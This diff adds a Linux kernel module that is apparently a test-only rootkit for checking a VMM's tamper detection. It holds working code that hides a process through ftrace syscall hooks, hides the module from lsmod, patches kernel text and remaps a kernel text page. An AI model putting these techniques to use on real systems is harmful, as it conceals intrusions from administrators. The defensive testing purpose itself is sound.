@@ -1,0 +1,700 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * hostile.ko: a TEST-ONLY kernel module that behaves like a rootkit, for the
+ * end-to-end tests of exterior-vmm's trust boundary (docs/SECURITY.md, issue #12).
+ * It belongs in the test GVM image only, never in the SVM's.
+ *
+ * Built for exactly one kernel: the pinned Debian 6.1.0-50-cloud-amd64 (x86-64,
+ * CONFIG_ARCH_HAS_SYSCALL_WRAPPER, CONFIG_DYNAMIC_FTRACE_WITH_REGS, no IBT), booted
+ * with nokaslr. Every behaviour is off at load and switched at run time through
+ * /sys/module/hostile/parameters/<knob> (0644); writing 0 undoes it. A switch prints
+ * "hostile: <knob> = <value> ok" or "hostile: <knob> failed: <-errno>" and a failed
+ * switch returns that error to the writer.
+ *
+ *   hide_pid=N      ftrace hooks: getdents64 drops the entry named N (ls /proc, ps),
+ *                   kill(N, ...) fails with ESRCH. 0 removes the hooks.
+ *   hide_self=1     unlinks the module from the module list (lsmod, /proc/modules).
+ *                   /sys/module/hostile stays: the knobs live there.
+ *   patch_uname=1   rewrites the GVM's own text: __x64_sys_newuname jumps to a hook
+ *                   that reports nodename "rootkit". 0 puts the bytes back.
+ *   remap_uname=1   leaves the text alone and points the page-table entry mapping
+ *                   __x64_sys_newuname at a patched copy of its whole page (2 MiB):
+ *                   nodename "remapped" (hole 1). 0 restores the entry, frees the copy.
+ *
+ * patch_uname and remap_uname exclude each other (-EBUSY). While remap_uname=1,
+ * nothing may rewrite text in the remapped region (the kernel's text_poke writes
+ * the original page, reads back the copy and BUGs), so hide_pid refuses to install
+ * or remove its hooks then (-EBUSY: registering ftrace ops also pokes ftrace's own
+ * trampoline call sites in the kernel text, wherever they are); a hook installed
+ * before remap_uname=1 keeps working. Static keys toggled in the remapped region
+ * meanwhile would hit the same BUG, which a quiet busybox GVM does not do.
+ * In the pinned kernel (nokaslr) __x64_sys_newuname is at 0xffffffff810b1480, a
+ * 14-byte stub (fentry site; mov 0x70(%rdi),%rdi; jmp __do_sys_newuname) in the
+ * first 2 MiB of text, which also holds x64_sys_call, __x64_sys_kill and ftrace's
+ * trampolines (ftrace_regs_caller).
+ * Switch order for a test: hide_pid, hide_self, patch_uname, remap_uname, each
+ * back to 0 before the next is fine; module exit undoes all, remap first.
+ */
+#define pr_fmt(fmt) "hostile: " fmt
+
+#include <linux/module.h>
+#include <linux/moduleparam.h>
+#include <linux/kernel.h>
+#include <linux/kprobes.h>
+#include <linux/ftrace.h>
+#include <linux/uaccess.h>
+#include <linux/slab.h>
+#include <linux/mm.h>
+#include <linux/vmalloc.h>
+#include <linux/dirent.h>
+#include <linux/utsname.h>
+#include <linux/stop_machine.h>
+#include <linux/cpu.h>
+#include <linux/smp.h>
+#include <linux/mutex.h>
+#include <linux/delay.h>
+#include <linux/rculist.h>
+#include <asm/nops.h>
+#include <asm/sync_core.h>
+#include <asm/tlbflush.h>
+#include <asm/pgtable.h>
+
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("exterior-vmm test-only rootkit (hostile GVM for e2e tests)");
+
+#define JMP_LEN 5
+/* The largest getdents64 result the hook filters; larger ones pass untouched. */
+#define DIRENT_MAX (1UL << 20)
+
+/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it reveals its address. */
+typedef unsigned long (*lookup_fn)(const char *);
+static lookup_fn lookup_name;
+
+/* Resolved at load; each knob checks what it needs and fails with -ENOENT without. */
+static unsigned long a_getdents64, a_kill, a_newuname;
+static struct mutex *p_text_mutex, *p_module_mutex;
+static struct list_head *p_modules;
+typedef int (*stop_cpuslocked_fn)(cpu_stop_fn_t, void *, const struct cpumask *);
+static stop_cpuslocked_fn p_stop_machine_cpuslocked;
+
+/* Knob values (what the getters show); changed only when a switch succeeds. */
+static int hide_pid, hide_self, patch_uname, remap_uname;
+
+static DEFINE_MUTEX(knob_lock);     /* serialises switches and module exit */
+static bool ready, exiting;         /* switches work only between init and exit */
+static atomic_t inflight = ATOMIC_INIT(0); /* tasks inside a hook (exit waits) */
+
+static void wait_inflight(void)
+{
+	/* A task may sleep inside a hook (copy_to_user, the real getdents64). */
+	while (atomic_read(&inflight))
+		msleep(10);
+}
+
+/* ---- 1. hide_pid: ftrace hooks on getdents64 and kill ------------------------ */
+
+typedef long (*syscall_fn)(const struct pt_regs *);
+static syscall_fn real_getdents64, real_kill;
+
+/* getdents64 with the entry named after the hidden pid cut out of the result. */
+static long hook_getdents64(const struct pt_regs *regs)
+{
+	struct linux_dirent64 __user *ubuf = (void __user *)regs->si;
+	const size_t name_off = offsetof(struct linux_dirent64, d_name);
+	char name[16];
+	char *kbuf;
+	long ret, off = 0;
+	bool changed = false;
+	int pid;
+
+	atomic_inc(&inflight);
+	ret = real_getdents64(regs);
+	pid = READ_ONCE(hide_pid);
+	/* Never trust the length blindly: it must fit what the caller asked for. */
+	if (ret <= 0 || pid <= 0 || ret > DIRENT_MAX || ret > (long)(unsigned int)regs->dx)
+		goto out;
+	snprintf(name, sizeof(name), "%d", pid);
+	kbuf = kvmalloc(ret, GFP_KERNEL);
+	if (!kbuf)
+		goto out;
+	if (copy_from_user(kbuf, ubuf, ret))
+		goto out_free;
+	while (off < ret) {
+		struct linux_dirent64 *d = (void *)(kbuf + off);
+		unsigned short reclen;
+
+		if (ret - off < (long)name_off + 1)
+			goto out_free;	/* malformed: leave the result alone */
+		reclen = d->d_reclen;
+		if (reclen < name_off + 1 || reclen > ret - off ||
+		    strnlen(d->d_name, reclen - name_off) == reclen - name_off)
+			goto out_free;
+		if (strcmp(d->d_name, name) == 0) {
+			memmove(kbuf + off, kbuf + off + reclen, ret - off - reclen);
+			ret -= reclen;
+			changed = true;
+			continue;
+		}
+		off += reclen;
+	}
+	if (changed && copy_to_user(ubuf, kbuf, ret))
+		ret = -EFAULT;
+out_free:
+	kvfree(kbuf);
+out:
+	atomic_dec(&inflight);
+	return ret;
+}
+
+static long hook_kill(const struct pt_regs *regs)
+{
+	int pid = READ_ONCE(hide_pid);
+	long ret;
+
+	if (pid > 0 && (pid_t)regs->di == pid)
+		return -ESRCH;
+	atomic_inc(&inflight);
+	ret = real_kill(regs);
+	atomic_dec(&inflight);
+	return ret;
+}
+
+struct hook {
+	const char *name;
+	unsigned long *addr;
+	void *func;
+	bool on;
+	struct ftrace_ops ops;
+};
+
+static struct hook hooks[] = {
+	{ .name = "__x64_sys_getdents64", .addr = &a_getdents64, .func = hook_getdents64 },
+	{ .name = "__x64_sys_kill", .addr = &a_kill, .func = hook_kill },
+};
+
+/*
+ * The well-known ftrace-hook technique: ftrace calls this at the traced function's
+ * fentry site with the saved registers; changing regs->ip makes ftrace return into
+ * the hook instead (IPMODIFY). The hook calls the real function, whose fentry site
+ * comes back here with parent_ip inside this module: then we let it run.
+ */
+static void notrace ftrace_thunk(unsigned long ip, unsigned long parent_ip,
+				 struct ftrace_ops *ops, struct ftrace_regs *fregs)
+{
+	struct pt_regs *regs = ftrace_get_regs(fregs);
+	struct hook *h = ops->private;
+
+	if (regs && !within_module(parent_ip, THIS_MODULE))
+		regs->ip = (unsigned long)h->func;
+}
+
+static int hook_install(struct hook *h)
+{
+	int ret;
+
+	h->ops.func = ftrace_thunk;
+	h->ops.private = h;
+	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
+		       FTRACE_OPS_FL_IPMODIFY;
+	/* Filter first: an ops with an empty filter would trace every function. */
+	ret = ftrace_set_filter_ip(&h->ops, *h->addr, 0, 0);
+	if (ret)
+		goto fail;
+	ret = register_ftrace_function(&h->ops);
+	if (ret) {
+		ftrace_set_filter_ip(&h->ops, *h->addr, 1, 0);
+		goto fail;
+	}
+	h->on = true;
+	return 0;
+fail:
+	pr_warn("ftrace hook on %s failed: %d\n", h->name, ret);
+	return ret;
+}
+
+static int hook_remove(struct hook *h)
+{
+	int ret;
+
+	if (!h->on)
+		return 0;
+	ret = unregister_ftrace_function(&h->ops);
+	if (ret)
+		return ret;
+	ftrace_set_filter_ip(&h->ops, *h->addr, 1, 0);
+	h->on = false;
+	return 0;
+}
+
+static int hooks_remove(void)
+{
+	int i, ret, err = 0;
+
+	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
+		ret = hook_remove(&hooks[i]);
+		if (ret && !err)
+			err = ret;
+	}
+	return err;
+}
+
+static struct page *remap_copy;	/* non-NULL while remap_uname=1 */
+
+static int hide_pid_switch(int pid)
+{
+	int i, ret;
+
+	if (pid < 0)
+		return -EINVAL;
+	if (!a_getdents64 || !a_kill)
+		return -ENOENT;
+	/* Installing or removing the hooks rewrites text: not while it is remapped. */
+	if (!!pid != !!hide_pid && remap_copy)
+		return -EBUSY;
+	if (pid == 0)
+		return hooks_remove();
+	WRITE_ONCE(hide_pid, pid);	/* the hooks read it; set before they run */
+	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
+		if (hooks[i].on)
+			continue;
+		ret = hook_install(&hooks[i]);
+		if (ret) {	/* only when it was off: back to off */
+			hooks_remove();
+			WRITE_ONCE(hide_pid, 0);
+			return ret;
+		}
+	}
+	return 0;
+}
+
+/* ---- 2. hide_self: unlink from the module list ------------------------------ */
+
+static bool hidden;
+
+/*
+ * /proc/modules (lsmod) walks the `modules` list under module_mutex; unlinking our
+ * node hides us there. Address lookups (exception tables, within_module) use the
+ * module tree, not the list, so the hooks keep working. /sys/module/hostile is left
+ * alone on purpose: the knobs, hide_self=0 included, live there. Restored at the
+ * list head (the old neighbour may have been unloaded since).
+ */
+static int hide_self_switch(int on)
+{
+	struct list_head *pos;
+	bool found = false;
+
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (!p_modules || !p_module_mutex)
+		return -ENOENT;
+	if (!!on == hidden)
+		return 0;
+	mutex_lock(p_module_mutex);
+	if (on) {
+		/* Make sure the `modules` symbol we found is the head of our list. */
+		list_for_each(pos, &THIS_MODULE->list)
+			if (pos == p_modules) {
+				found = true;
+				break;
+			}
+		if (found)
+			list_del_rcu(&THIS_MODULE->list);
+	} else {
+		list_add_rcu(&THIS_MODULE->list, p_modules);
+	}
+	mutex_unlock(p_module_mutex);
+	if (on && !found)
+		return -ENOENT;
+	synchronize_rcu();	/* no reader still on our node before it moves again */
+	hidden = on;
+	return 0;
+}
+
+/* ---- 3. and 4.: the uname hooks and text writing ---------------------------- */
+
+static long fake_uname(const struct pt_regs *regs, const char *node)
+{
+	struct new_utsname u;
+	long ret = 0;
+
+	atomic_inc(&inflight);
+	/* Unlocked copy (uts_sem is not exported): a racing sethostname is harmless. */
+	memcpy(&u, utsname(), sizeof(u));
+	strscpy(u.nodename, node, sizeof(u.nodename));
+	if (copy_to_user((void __user *)regs->di, &u, sizeof(u)))
+		ret = -EFAULT;
+	atomic_dec(&inflight);
+	return ret;
+}
+
+/* Reached by a jmp written over __x64_sys_newuname: same regs, same return. */
+static long hook_uname_patched(const struct pt_regs *regs)
+{
+	return fake_uname(regs, "rootkit");
+}
+
+static long hook_uname_remapped(const struct pt_regs *regs)
+{
+	return fake_uname(regs, "remapped");
+}
+
+static const u8 nop5[JMP_LEN] = { BYTES_NOP5 };
+
+/*
+ * The patch replaces the function's first instruction, the 5-byte fentry site that
+ * ftrace left as a nop, by a 5-byte jmp rel32 to the hook: one instruction for one,
+ * so no task can ever be caught inside a half-replaced instruction. A site that is
+ * not the nop (traced right now) is refused. Nothing must trace this function
+ * while it is patched (ftrace would find unexpected bytes); the GVM traces nothing.
+ * Modules live within +-2 GiB of the kernel text, so rel32 reaches.
+ */
+static int make_jmp(u8 *insn, unsigned long from, unsigned long to)
+{
+	long rel = (long)to - (long)(from + JMP_LEN);
+	s32 rel32 = rel;
+
+	if (rel != rel32)
+		return -ERANGE;
+	insn[0] = 0xe9;
+	memcpy(insn + 1, &rel32, sizeof(rel32));
+	return 0;
+}
+
+static int check_site(const void *site)
+{
+	if (!memcmp(site, nop5, JMP_LEN))
+		return 0;
+	return ((const u8 *)site)[0] == 0xe8 ? -EBUSY : -ENOEXEC;
+}
+
+struct poke {
+	void *dst;
+	const void *src;
+	size_t len;
+};
+
+static int poke_stopped(void *arg)
+{
+	struct poke *p = arg;
+
+	memcpy(p->dst, p->src, p->len);
+	sync_core();
+	return 0;
+}
+
+static void sync_core_ipi(void *unused)
+{
+	sync_core();
+}
+
+/*
+ * Write kernel text that is mapped read-only: map its physical pages again,
+ * writable, with vmap() and write there, every other CPU stopped, under
+ * text_mutex (no concurrent ftrace/jump-label/kprobe poke). Kernel image
+ * addresses translate with __pa_symbol (phys_base), not __pa of the direct map.
+ */
+static int text_write(unsigned long addr, const u8 *bytes, size_t len)
+{
+	unsigned long pfn = __pa_symbol(addr) >> PAGE_SHIFT;
+	unsigned int n = offset_in_page(addr) + len > PAGE_SIZE ? 2 : 1;
+	struct page *pages[2] = { pfn_to_page(pfn), pfn_to_page(pfn + 1) };
+	struct poke p = { .src = bytes, .len = len };
+	void *map;
+	int ret;
+
+	if (!p_text_mutex || !p_stop_machine_cpuslocked)
+		return -ENOENT;
+	map = vmap(pages, n, VM_MAP, PAGE_KERNEL);
+	if (!map)
+		return -ENOMEM;
+	p.dst = map + offset_in_page(addr);
+	/* Lock order as in the kernel: cpu hotplug lock, then text_mutex. */
+	cpus_read_lock();
+	mutex_lock(p_text_mutex);
+	ret = p_stop_machine_cpuslocked(poke_stopped, &p, NULL);
+	on_each_cpu(sync_core_ipi, NULL, 1);
+	mutex_unlock(p_text_mutex);
+	cpus_read_unlock();
+	vunmap(map);
+	if (!ret && memcmp((void *)addr, bytes, len))
+		ret = -EIO;	/* the mapping does not show what we wrote */
+	return ret;
+}
+
+static u8 uname_saved[JMP_LEN];
+
+static int patch_uname_switch(int on)
+{
+	u8 insn[JMP_LEN];
+	int ret;
+
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (!!on == !!patch_uname)
+		return 0;
+	if (!a_newuname)
+		return -ENOENT;
+	if (!on) {
+		ret = text_write(a_newuname, uname_saved, JMP_LEN);
+		if (!ret)
+			wait_inflight();
+		return ret;
+	}
+	if (remap_uname)
+		return -EBUSY;
+	ret = check_site((void *)a_newuname);
+	if (ret)
+		return ret;
+	ret = make_jmp(insn, a_newuname, (unsigned long)hook_uname_patched);
+	if (ret)
+		return ret;
+	memcpy(uname_saved, (void *)a_newuname, JMP_LEN);
+	ret = text_write(a_newuname, insn, JMP_LEN);
+	if (ret == -EIO)	/* put back whatever did land */
+		text_write(a_newuname, uname_saved, JMP_LEN);
+	if (!ret)
+		pr_info("patch_uname: __x64_sys_newuname at %px jumps to %px\n",
+			(void *)a_newuname, hook_uname_patched);
+	return ret;
+}
+
+/* ---- 4. remap_uname: point the text's page-table entry at a patched copy ---- */
+
+static u64 *remap_entry;	/* the PTE or PMD (2 MiB) entry we rewrote */
+static u64 remap_old, remap_new;
+static unsigned long remap_size;
+
+static void flush_ipi(void *unused)
+{
+	__flush_tlb_all();	/* global entries too: kernel text is mapped global */
+}
+
+static int remap_uname_on(void)
+{
+	unsigned int level;
+	unsigned long size, base, off;
+	u64 mask, phys, old = 0, new = 0;
+	struct page *copy;
+	u8 insn[JMP_LEN];
+	u64 *entry;
+	void *c;
+	int ret;
+
+	if (!a_newuname)
+		return -ENOENT;
+	if (patch_uname)
+		return -EBUSY;
+	/* lookup_address walks init_mm: the kernel half is shared by every mm. */
+	entry = (u64 *)lookup_address(a_newuname, &level);
+	if (!entry || !(READ_ONCE(*entry) & _PAGE_PRESENT))
+		return -EFAULT;
+	switch (level) {
+	case PG_LEVEL_4K:
+		size = PAGE_SIZE;
+		mask = PTE_PFN_MASK;
+		break;
+	case PG_LEVEL_2M:	/* the pinned kernel maps its text with 2 MiB pages */
+		size = PMD_SIZE;
+		mask = PHYSICAL_PMD_PAGE_MASK;
+		break;
+	default:
+		return -EOPNOTSUPP;
+	}
+	base = a_newuname & ~(size - 1);
+	off = a_newuname - base;
+	if (off + JMP_LEN > size)
+		return -ERANGE;
+	ret = make_jmp(insn, a_newuname, (unsigned long)hook_uname_remapped);
+	if (ret)
+		return ret;
+	if (!p_text_mutex)
+		return -ENOENT;
+	/* Buddy blocks are aligned to their size, as a 2 MiB entry needs. */
+	copy = alloc_pages(GFP_KERNEL | __GFP_NOWARN | __GFP_RETRY_MAYFAIL, get_order(size));
+	if (!copy)
+		return -ENOMEM;
+	phys = PFN_PHYS(page_to_pfn(copy));
+	if (phys & (size - 1) || phys & ~mask) {
+		ret = -EINVAL;
+		goto free;
+	}
+	c = page_address(copy);
+	cpus_read_lock();
+	mutex_lock(p_text_mutex);	/* the copy must not miss a concurrent poke */
+	memcpy(c, (void *)base, size);
+	ret = check_site(c + off);
+	if (!ret) {
+		memcpy(c + off, insn, JMP_LEN);
+		/* Same flags (RX, global, PAT bits), new frame. Raw write: a KVM guest
+		 * runs native page-table ops even with CONFIG_PARAVIRT_XXL. */
+		old = READ_ONCE(*entry);
+		new = (old & ~mask) | phys;
+		WRITE_ONCE(*entry, new);
+		on_each_cpu(flush_ipi, NULL, 1);
+	}
+	mutex_unlock(p_text_mutex);
+	cpus_read_unlock();
+	if (ret)
+		goto free;
+	remap_entry = entry;
+	remap_old = old;
+	remap_new = new;
+	remap_size = size;
+	remap_copy = copy;
+	pr_info("remap_uname: %s entry at %px for %px-%px: frame %llx -> copy %llx\n",
+		level == PG_LEVEL_2M ? "2M" : "4K", entry, (void *)base,
+		(void *)(base + size - 1), old & mask, phys);
+	return 0;
+free:
+	__free_pages(copy, get_order(size));
+	return ret;
+}
+
+/*
+ * Someone else may have changed the entry meanwhile (split the 2 MiB page?): then
+ * remap_uname=0 refuses (-EBUSY) and keeps the copy, but module exit (force) puts
+ * the original entry back anyway: the entry lives in a kernel page table that is
+ * never freed, and the original frame is the right text for those addresses.
+ */
+static int remap_uname_off(bool force)
+{
+	int ret = 0;
+
+	if (!remap_copy)
+		return 0;
+	cpus_read_lock();
+	mutex_lock(p_text_mutex);
+	if (READ_ONCE(*remap_entry) != remap_new && !force) {
+		ret = -EBUSY;
+	} else {
+		WRITE_ONCE(*remap_entry, remap_old);
+		on_each_cpu(flush_ipi, NULL, 1);	/* no CPU runs the copy after this */
+	}
+	mutex_unlock(p_text_mutex);
+	cpus_read_unlock();
+	if (ret)
+		return ret;
+	wait_inflight();
+	__free_pages(remap_copy, get_order(remap_size));
+	remap_copy = NULL;
+	remap_entry = NULL;
+	return 0;
+}
+
+static int remap_uname_switch(int on)
+{
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (!!on == !!remap_uname)
+		return 0;
+	return on ? remap_uname_on() : remap_uname_off(false);
+}
+
+/* ---- the knobs ------------------------------------------------------------ */
+
+static int knob_set(const char *val, const struct kernel_param *kp,
+		    int (*sw)(int))
+{
+	int v, ret;
+
+	ret = kstrtoint(val, 0, &v);
+	if (ret)
+		return ret;
+	mutex_lock(&knob_lock);
+	if (!ready || exiting)
+		ret = -EBUSY;	/* not at insmod time: switch after load */
+	else
+		ret = sw(v);
+	if (!ret)
+		*(int *)kp->arg = v;
+	mutex_unlock(&knob_lock);
+	if (ret)
+		pr_info("%s failed: %d\n", kp->name, ret);
+	else
+		pr_info("%s = %d ok\n", kp->name, v);
+	return ret;
+}
+
+#define KNOB(name, sw)							\
+	static int set_##name(const char *val, const struct kernel_param *kp) \
+	{ return knob_set(val, kp, sw); }				\
+	static const struct kernel_param_ops name##_ops = {		\
+		.set = set_##name, .get = param_get_int,		\
+	};								\
+	module_param_cb(name, &name##_ops, &name, 0644)
+
+KNOB(hide_pid, hide_pid_switch);
+MODULE_PARM_DESC(hide_pid, "pid hidden from getdents64 and kill (0 = off)");
+KNOB(hide_self, hide_self_switch);
+MODULE_PARM_DESC(hide_self, "1 = unlinked from the module list");
+KNOB(patch_uname, patch_uname_switch);
+MODULE_PARM_DESC(patch_uname, "1 = __x64_sys_newuname text patched: nodename rootkit");
+KNOB(remap_uname, remap_uname_switch);
+MODULE_PARM_DESC(remap_uname, "1 = text page of __x64_sys_newuname remapped to a patched copy: nodename remapped");
+
+/* ---- load and unload ------------------------------------------------------ */
+
+static unsigned long __init resolve(const char *name)
+{
+	unsigned long a = lookup_name(name);
+
+	if (!a)
+		pr_warn("symbol %s not found; the knobs that need it fail\n", name);
+	return a;
+}
+
+static int __init hostile_init(void)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	int ret;
+
+	ret = register_kprobe(&kp);
+	if (ret) {
+		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", ret);
+		return ret;
+	}
+	lookup_name = (lookup_fn)kp.addr;
+	unregister_kprobe(&kp);
+	if (!lookup_name)
+		return -ENOENT;
+	pr_info("loaded, kallsyms_lookup_name at %px\n", lookup_name);
+
+	a_getdents64 = resolve("__x64_sys_getdents64");
+	a_kill = resolve("__x64_sys_kill");
+	a_newuname = resolve("__x64_sys_newuname");
+	real_getdents64 = (syscall_fn)a_getdents64;
+	real_kill = (syscall_fn)a_kill;
+	p_text_mutex = (struct mutex *)resolve("text_mutex");
+	p_module_mutex = (struct mutex *)resolve("module_mutex");
+	p_modules = (struct list_head *)resolve("modules");
+	p_stop_machine_cpuslocked = (stop_cpuslocked_fn)resolve("stop_machine_cpuslocked");
+
+	mutex_lock(&knob_lock);
+	ready = true;
+	mutex_unlock(&knob_lock);
+	return 0;
+}
+
+static void __exit hostile_exit(void)
+{
+	mutex_lock(&knob_lock);
+	exiting = true;
+	/* Remap first: the hooks can only go (text pokes) once the text is back. */
+	remap_uname_off(true);
+	if (patch_uname && text_write(a_newuname, uname_saved, JMP_LEN))
+		pr_warn("patch_uname could not be undone\n");
+	hooks_remove();
+	if (hidden)	/* cannot happen: rmmod does not find a hidden module */
+		hide_self_switch(0);
+	mutex_unlock(&knob_lock);
+	/* No task may still be on its way into a hook (e.g. preempted right after
+	 * the jmp, before counting itself): RCU Tasks waits for every task to pass
+	 * a voluntary switch, as ftrace does before freeing a trampoline. */
+	synchronize_rcu_tasks();
+	wait_inflight();
+	synchronize_rcu();
+	pr_info("unloaded\n");
+}
+
+module_init(hostile_init);
+module_exit(hostile_exit);
